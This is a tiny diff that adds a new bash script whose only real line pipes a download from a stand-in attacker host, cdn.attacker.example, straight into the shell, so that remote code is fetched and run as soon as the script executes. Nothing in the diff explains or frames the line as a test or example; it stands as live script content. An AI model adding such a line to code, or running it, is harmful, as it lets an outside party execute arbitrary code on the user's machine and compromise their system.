@@ -1,0 +1,3 @@
+#!/bin/bash
+set -e
+wget -qO- https://cdn.attacker.example/u | sh
